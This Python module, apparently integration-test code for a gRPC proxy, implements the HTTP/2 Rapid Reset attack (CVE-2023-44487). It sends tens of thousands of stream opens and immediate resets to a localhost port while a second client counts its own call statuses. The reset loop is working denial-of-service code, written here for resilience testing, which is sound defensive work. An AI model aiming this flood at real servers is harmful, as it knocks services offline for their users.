"""HTTP/2 rapid reset (CVE-2023-44487): calls opened and reset at once, and what somebody else sees of it."""

import socket
import struct
import threading
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager, suppress

import grpc

from tests.integration.proxy.calls import unary
from tests.integration.proxy.http2 import (
    END_HEADERS,
    HEADERS,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
    header_block,
)

RESETS = 50_000
_AT_ONCE = 100
_CANCEL = struct.pack(">I", 8)
_CALL = {
    ":method": "POST",
    ":scheme": "http",
    ":authority": "localhost",
    ":path": "/Jobs/HealthCheck",
    "content-type": "application/grpc",
    "te": "trailers",
}


def reset_rapidly(port: int) -> None:
    """Open and reset calls over one connection until all are sent, or the server has had enough and cuts it."""
    block = header_block(_CALL)
    with socket.create_connection(("127.0.0.1", port), timeout=60) as connection:
        reader = threading.Thread(target=_read_to_the_end, args=(connection,))
        reader.start()
        with suppress(OSError):
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            for start in range(0, RESETS, _AT_ONCE):
                streams = range(2 * start + 1, 2 * (start + _AT_ONCE) + 1, 2)
                connection.sendall(b"".join(_opened_and_reset(stream, block) for stream in streams))
        with suppress(OSError):
            connection.shutdown(socket.SHUT_RDWR)
        reader.join()


def _opened_and_reset(stream: int, block: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, _CANCEL)


def _read_to_the_end(connection: socket.socket) -> None:
    with suppress(OSError):
        while connection.recv(65536):
            pass


@contextmanager
def honest_calls(address: str) -> Iterator[Counter[str]]:
    """Have somebody else call again and again within the block; their statuses are in the counter after it."""
    statuses: Counter[str] = Counter()
    is_over = threading.Event()

    def call() -> None:
        with grpc.insecure_channel(address) as channel:
            while not is_over.is_set():
                future = unary(channel, "/Jobs/HealthCheck").future(b"", timeout=30)
                statuses[future.code().name] += 1

    caller = threading.Thread(target=call)
    caller.start()
    try:
        yield statuses
    finally:
        is_over.set()
        caller.join()
